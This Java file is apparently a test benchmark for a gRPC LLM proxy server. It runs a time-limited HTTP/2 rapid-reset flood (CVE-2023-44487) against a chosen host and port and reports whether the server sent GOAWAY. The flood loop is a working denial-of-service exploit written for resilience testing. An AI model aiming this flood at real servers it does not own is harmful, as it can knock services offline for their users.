package dev.llmproxy.server;

import dev.llmproxy.v1.CompletionRequest;
import dev.llmproxy.v1.LlmProxyGrpc;
import java.time.Duration;

/**
 * The HTTP/2 rapid-reset flood of issue 12 (CVE-2023-44487), bounded: on one connection, HEADERS +
 * DATA (a whole small request) + RST_STREAM, as fast as the socket takes them, for up to
 * {@code seconds}. Prints how many streams were written and when the server's GOAWAY came, if it
 * did.
 *
 * <p>Run: {@code java -cp <server test classpath> dev.llmproxy.server.RapidResetBench HOST PORT [seconds=10]}
 */
final class RapidResetBench {
  private RapidResetBench() {}

  public static void main(String[] args) throws Exception {
    String host = args[0];
    int port = Integer.parseInt(args[1]);
    long limitNanos = Duration.ofSeconds(args.length > 2 ? Integer.parseInt(args[2]) : 10).toNanos();
    String path = "/" + LlmProxyGrpc.getCompleteMethod().getFullMethodName();
    byte[] body = CompletionRequest.newBuilder().setPrompt("flood").setMaxTokens(1).build().toByteArray();
    byte[] message = new byte[5 + body.length];
    System.arraycopy(RawHttp2Connection.messagePrefix(body.length), 0, message, 0, 5);
    System.arraycopy(body, 0, message, 5, body.length);
    int streams = 0;
    try (RawHttp2Connection c = RawHttp2Connection.open(host, port)) {
      if (!c.awaitSettings(Duration.ofSeconds(10))) {
        throw new IllegalStateException("no SETTINGS from " + host + ":" + port);
      }
      long started = System.nanoTime();
      while (!c.ended() && System.nanoTime() - started < limitNanos) {
        try {
          int id = c.openCall(path);
          c.send(id, message, false, Duration.ofSeconds(1));
          c.reset(id);
          if (++streams % 20 == 0) {
            c.flush();
          }
        } catch (java.io.IOException closed) {
          break;
        }
      }
      long goAway = c.goAwayNanos();
      System.out.println("rapid reset: " + streams + " streams written in "
          + Duration.ofNanos(System.nanoTime() - started).toMillis() + " ms; "
          + (goAway == 0 ? "no GOAWAY" + (c.ended() ? " (connection closed)" : "")
              : "GOAWAY (error " + c.goAwayError() + ") " + Duration.ofNanos(goAway - started).toMillis()
                  + " ms after the flood began"));
    }
  }
}
